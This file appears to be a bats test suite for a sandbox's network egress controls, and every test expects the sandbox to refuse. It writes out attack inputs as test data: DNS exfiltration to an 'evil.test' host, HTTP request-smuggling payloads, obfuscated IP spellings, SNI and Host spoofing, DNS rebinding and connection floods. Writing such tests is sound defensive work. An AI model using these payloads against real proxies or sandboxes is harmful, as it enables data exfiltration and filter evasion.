#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck disable=SC2016,SC2030,SC2031,SC2034,SC2154 # scripts for the inside; bats' subshells
#
# A hostile program against the hosts that its profile allows.  A test looks at what arrived outside, not only at what the program got.

load ../lib/suite.bash
load ../lib/rest.bash
load ../lib/egress-world.bash

setup_file() {
	[ "$(id -u)" -eq 0 ] || skip "network namespaces with devices need root"
	TRAPS=$(mktemp -d)
	export TRAPS
	rest_ca "$TRAPS" ca
	rest_cert "$TRAPS" good ca DNS:good.test,DNS:other.test
	world_open "$TRAPS"
}

teardown_file() {
	world_close
	rm -rf "$TRAPS"
}

setup() {
	suite_setup
	export NO_COLOR=1
	suite_ungoverned '{"rules": [{"effect": "allow", "network": "allow"}]}'
	cp "$BATS_TEST_DIRNAME/../lib/egress_trap.py" "$CUSTODY_HOME/work/"
	hosts '{"host": "good.test"}' '{"host": "plain.test", "protocol": "http"}'
	world_clear
}

teardown() {
	custody_teardown
}

# hosts RULE...: PROFILE allows these.
hosts() {
	suite_profile traps "$(printf '%s\n' "$@" | jq -s '{network: {mode: "allow", hosts: .},
		enforce: {optional: ["memory-limit", "pids-limit", "cpu-limit"]}}')"
}

# trap_run SCRIPT: in the sandbox; `t` is egress_trap.py.  FILES: limit of open files.
trap_run() {
	local file=$CUSTODY_HOME/results/traps.json
	run --separate-stderr ${FILES:+prlimit "--nofile=$FILES"} \
		nsenter -t "$WORLD_HOST" -n -m --wd="$CUSTODY_HOME/work" "$CUSTODY" run --result "$file" \
		--profile "$PROFILE" -- sh -c 't() { python3 -B egress_trap.py "$@"; }
'"$1"
	CUSTODY_RESULT=$(cat "$file" 2>/dev/null) || true
	[ "$status" -eq 0 ] || custody_fail "the sandbox did not run"
}

# got LINE...: these are the lines of the output.
got() {
	[ "$output" = "$(printf '%s\n' "$@")" ] || custody_fail "expected: $*"
}

@test "DOOR-3: an allowed host is reached by its name, any other is not" {
	trap_run 't tls good.test good.test; printf "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n" | t raw plain.test 80
		t tls other.test other.test'
	got 'HTTP/1.1 200 OK' 'HTTP/1.1 200 OK' no-name
	[ "$(world_saw '.event == "sni"')" = '{"event":"sni","name":"good.test"}' ]
	[ -z "$(world_saw '.name == "other.test"')" ]
	host_is_untouched
}

@test "DOOR-4: data in names that are not allowed leaves by no question" {
	trap_run 'for type in 1 2 5 12 15 16 28 33 64 65 255; do t dns secret.evil.test $type; done
		t dns secret.evil.test 16 tcp; t dns x.good.test; t dns good.test.evil.test; t dns secret'
	got 3 3 3 3 3 3 3 3 3 3 3 3 3 3 3
	world_is_silent
}

@test "DOOR-4: the name of an allowed host is asked outside only for a connection" {
	trap_run 't dns good.test | sed "s/198\.1[89]\..*/pool/"; t dns GOOD.test. 28; t dns good.test 64; t dns good.test 65; t dns good.test 16'
	got '0 pool' 0 0 0 0
	world_is_silent
}

@test "DOOR-4: no other resolver is reached" {
	trap_run 't ask 10.200.0.2 secret.test; t ask 8.8.8.8 secret.test; t open INET 10.200.0.2 53; t udp 45.33.32.10 443'
	got ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH
	world_is_silent
}

@test "DOOR-4: a name that does not exist is not looked for in the host's search list" {
	hosts '{"host": "missing.test"}'
	trap_run 't tls missing.test missing.test'
	[ -n "$(world_saw '.name == "missing.test"')" ]
	[ -z "$(world_saw '.name == "missing.test.corp.test"')" ]
	[ -z "$(world_saw '.event == "connect"')" ]
}

@test "DOOR-5: names that lead to addresses of the host or its networks are refused" {
	local names=(loop zero private meta azure own mapped nat64 sixtofour loop6) rules
	mapfile -t rules < <(printf '{"host": "%s.test"}\n' "${names[@]}")
	hosts "${rules[@]}"
	trap_run "for name in ${names[*]}; do t tls \$name.test \$name.test; done"
	! grep -q HTTP <<<"$output" || custody_fail "a server answered"
	[ -z "$(world_saw '.event == "connect"')" ] || custody_fail "connected: $(world_saw '.event == "connect"')"
	host_is_untouched
}

@test "DOOR-5: a name that is another address the second time gains nothing" {
	hosts '{"host": "rebind.test"}' '{"host": "both.test"}'
	trap_run 't tls rebind.test rebind.test; t tls rebind.test rebind.test >/dev/null; t tls rebind.test rebind.test >/dev/null
		t tls both.test both.test'
	got 'HTTP/1.1 200 OK' 'HTTP/1.1 200 OK'
	[ -n "$(world_saw '.event == "dns" and .name == "rebind.test"')" ]
	host_is_untouched
}

@test "DOOR-5: a server name that is not the decided one reaches no server" {
	trap_run 't tls good.test other.test; t tls good.test -; t tls good.test x.good.test'
	got alert alert alert
	world_is_silent
}

@test "DOOR-5: a Host that is not the decided one reaches no server" {
	trap_run 'for host in other.test plain.test:81 plain.test. u@plain.test 45.33.32.10 "plain.test, other.test"; do
			printf "GET / HTTP/1.1\r\nHost: %s\r\n\r\n" "$host" | t raw plain.test 80
		done
		printf "GET / HTTP/1.1\r\nHost: plain.test\r\nHost: other.test\r\n\r\n" | t raw plain.test 80
		printf "GET http://other.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n" | t raw plain.test 80
		printf "GET http://plain.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n" | t raw 127.0.0.1 3128
		printf "GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n" | t raw 127.0.0.1 3128
		printf "GET //other.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n" | t raw plain.test 80
		printf "GET / HTTP/1.1\nHost: plain.test\n\n" | t raw plain.test 80'
	[ "$(sort -u <<<"$output")" = 'HTTP/1.1 403 Forbidden' ] || custody_fail "not refused"
	[ "${#lines[@]}" -eq 12 ]
	world_is_silent
}

@test "DOOR-5: only the first host of a kept-alive connection is not enough" {
	trap_run 'printf "GET /1 HTTP/1.1\r\nHost: plain.test\r\n\r\nGET /2 HTTP/1.1\r\nHost: other.test\r\n\r\n" | t keep plain.test 80
		printf "GET http://plain.test/3 HTTP/1.1\r\nHost: plain.test\r\n\r\nGET http://other.test/4 HTTP/1.1\r\nHost: other.test\r\n\r\n" |
			t keep 127.0.0.1 3128'
	[ -n "$(world_saw '.line == "GET /1 HTTP/1.1" or .line == "GET /3 HTTP/1.1"')" ]
	[ "$(world_saw '.event == "request"' | wc -l)" -eq 2 ] || custody_fail "$(world_saw '.event == "request"')"
	[ -z "$(world_saw '.hosts? // [] | index("other.test")')" ]
}

@test "DOOR-5: no second request hides in the body of the first" {
	trap_run 's="GET /smuggled HTTP/1.1\r\nHost: other.test\r\n\r\n"
		printf "POST / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$s" | t raw plain.test 80
		printf "POST / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 0\r\nContent-Length: 49\r\n\r\n$s" | t raw plain.test 80
		printf "POST / HTTP/1.1\r\nHost: plain.test\r\nContent_Length: 49\r\n\r\n$s" | t raw plain.test 80
		printf "POST / HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: xchunked\r\n\r\n$s" | t raw plain.test 80
		printf "GET / HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 49\r\n\r\n$s" | t raw plain.test 80
		printf "GET / HTTP/1.1\r\nHost: plain.test\r\nX: a\r\n Host: other.test\r\n\r\n" | t raw plain.test 80'
	[ "$(sort -u <<<"$output")" = 'HTTP/1.1 403 Forbidden' ] || custody_fail "not refused"
	[ "${#lines[@]}" -eq 6 ]
	world_is_silent
}

@test "DOOR-4: a wildcard does not allow a public resolver over HTTPS" {
	hosts '{"host": "**.cloudflare-dns.com"}'
	trap_run 't dns mozilla.cloudflare-dns.com; t dns cloudflare-dns.com; printf "CONNECT mozilla.cloudflare-dns.com:443 HTTP/1.1\r\nHost: mozilla.cloudflare-dns.com:443\r\n\r\n" | t raw 127.0.0.1 3128'
	got 3 3 'HTTP/1.1 403 Forbidden'
	world_is_silent
}

@test "DOOR-3: an address instead of a name is refused, in every spelling and family" {
	trap_run 't open INET 45.33.32.10 443; t open INET6 ::ffff:45.33.32.10 443; t open INET6 2a00:1450::1 443; t open INET6 64:ff9b::2d21:200a 443
		for host in 45.33.32.10 757145610 0x2d21200a 055.041.040.012 45.33.8202 "[::1]" "[::ffff:45.33.32.10]" 127.0.0.1 good.test. GOOD.test:443@45.33.32.10; do
			printf "CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" "$host" "$host" | t raw 127.0.0.1 3128
		done'
	[ "$(head -n 4 <<<"$output" | sort -u)" = ENETUNREACH ] || custody_fail "an address was reached"
	[ "$(tail -n +5 <<<"$output" | sort -u)" = 'HTTP/1.1 403 Forbidden' ] || custody_fail "not refused"
	[ "${#lines[@]}" -eq 14 ]
	world_is_silent
}

@test "DOOR-3: addresses inside that have no name lead nowhere" {
	trap_run 't dns good.test >/dev/null
		for address in 198.18.0.0 198.18.0.2 198.19.255.254 198.19.255.255 127.0.0.1 127.1.2.3; do
			printf "x" | t raw $address 443
		done; printf "x" | t raw ::ffff:198.18.0.2 443'
	! grep -q HTTP/1.1.200 <<<"$output" || custody_fail "a server answered"
	world_is_silent
}

@test "DOOR-3: a mapped address of a name is that name" {
	trap_run 'a=$(t dns good.test); t tls good.test good.test ::ffff:${a#0 }; t tls other.test other.test ::ffff:${a#0 }'
	got 'HTTP/1.1 200 OK' alert
	[ "$(world_saw '.event == "connect"' | wc -l)" -eq 1 ]
}

@test "DOOR-5: CONNECT to port 443 carries only TLS for its name" {
	trap_run 'c="CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n"
		{ printf "$c"; sleep 1; printf "SSH-2.0-x\r\n"; } | t raw 127.0.0.1 3128
		{ printf "$c"; printf "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"; } | t raw 127.0.0.1 3128
		printf "SSH-2.0-x\r\n" | t raw good.test 443'
	got 'HTTP/1.1 200 Connection established' 'HTTP/1.1 200 Connection established' alert
	[ -z "$(world_saw '.event == "sni" or .event == "request"')" ]
}

@test "DOOR-3: other ports of an allowed host are refused" {
	trap_run 'for port in 22 80 8443 53 3128; do
			printf "CONNECT good.test:%s HTTP/1.1\r\nHost: good.test:%s\r\n\r\n" $port $port | t raw 127.0.0.1 3128
		done; printf "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n" | t raw good.test 80; t open INET 198.18.0.1 22'
	got 'HTTP/1.1 403 Forbidden' 'HTTP/1.1 403 Forbidden' 'HTTP/1.1 403 Forbidden' 'HTTP/1.1 403 Forbidden' 'HTTP/1.1 403 Forbidden' \
		'HTTP/1.1 403 Forbidden' ECONNREFUSED
	world_is_silent
}

@test "DOOR-5: heads that are slow or without end are cut off" {
	trap_run 't slow plain.test 80 >slow & { printf "GET / HTTP/1.1\r\nHost: plain.test\r\nX: "; head -c 40000 /dev/zero | tr "\0" a; } | t raw plain.test 80
		{ printf "GET / HTTP/1.1\r\nHost: plain.test\r\n"; i=0; while [ $i -lt 200 ]; do printf "X: y\r\n"; i=$((i + 1)); done; printf "\r\n"; } | t raw plain.test 80
		printf "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n" | t raw plain.test 80
		wait; cat slow'
	got 'HTTP/1.1 403 Forbidden' 'HTTP/1.1 403 Forbidden' 'HTTP/1.1 200 OK' 'HTTP/1.1 403 Forbidden'
	[ "$(world_saw '.event == "request"' | wc -l)" -eq 1 ]
}

@test "DOOR-3: 10,000 connections end neither the session nor its hosts" {
	trap_run 't flood plain.test 80 10000; t flood good.test 443 2000; t flood 127.0.0.1 3128 2000; t flood 127.0.0.1 53 2000
		printf "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n" | t raw plain.test 80; t tls good.test good.test'
	got 'made 10000' 'made 2000' 'made 2000' 'made 2000' 'HTTP/1.1 200 OK' 'HTTP/1.1 200 OK'
	assert_reason exited
	[ "$(world_saw '.event == "request"' | wc -l)" -eq 2 ]
	# They were refused, not only too many for the limits of the process.
	grep -q '"refused":"connections"' "$CUSTODY_ROOT"/sandbox/sessions/*/audit.ndjson
}

@test "DOOR-3: with few open files more connections are refused, and with too few nothing starts" {
	FILES=160 trap_run 't flood plain.test 80 20; printf "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n" | t raw plain.test 80'
	got 'made 20' 'HTTP/1.1 200 OK'
	[ "$(grep -c '"refused":"connections"' "$CUSTODY_ROOT"/sandbox/sessions/*/audit.ndjson)" -eq 15 ]
	run --separate-stderr prlimit --nofile=130 nsenter -t "$WORLD_HOST" -n -m --wd="$CUSTODY_HOME/work" "$CUSTODY" run \
		--profile "$PROFILE" -- true
	[ "$status" -eq 125 ] && [[ $stderr == *'open files are needed: raise the limit (ulimit -n 6272)'* ]]
	[ "$(cat "$CUSTODY_ROOT"/sandbox/ledger/*.ndjson | grep -c '"k":"session.start"')" -eq 1 ]
}

@test "DOOR-3: names under a wildcard without end leave the known ones alone" {
	hosts '{"host": "good.test"}' '{"host": "*.wild.test"}'
	trap_run 't tls good.test good.test; t names wild.test 20000; t tls good.test good.test; t tls a.wild.test a.wild.test'
	[ "${lines[0]}" = 'HTTP/1.1 200 OK' ] && [ "${lines[2]}" = 'HTTP/1.1 200 OK' ]
	[[ ${lines[1]} =~ ^0:1[0-9]*\ 2:[0-9]+$ ]] || custody_fail "no end of addresses"
	assert_reason exited
}

@test "DOOR-5: a hello that may hide another name is marked in its record" {
	trap_run 't hello good.test 65037; t hello good.test 21; t hello good.test 0'
	[ "${lines[2]}" = alert ]
	jq -r 'select(.k == "net.connect") | .d.ech' "$CUSTODY_ROOT"/sandbox/sessions/*/audit.ndjson >"$CUSTODY_HOME/ech"
	[ "$(paste -sd' ' "$CUSTODY_HOME/ech")" = 'true null' ] || custody_fail "$(cat "$CUSTODY_HOME/ech")"
}

@test "DOOR-5: a refused request names its fault, in the reply and in the record" {
	trap_run 'printf "GET / HTTP/1.1\r\nHost: plain.test\r\nHost: plain.test\r\n\r\n" | t all plain.test 80'
	[ "$(tail -n 1 <<<"$output" | jq -r .detail)" = 'two Host fields' ]
	grep -q '"detail":"two Host fields"' "$CUSTODY_ROOT"/sandbox/sessions/*/audit.ndjson
	world_is_silent
}
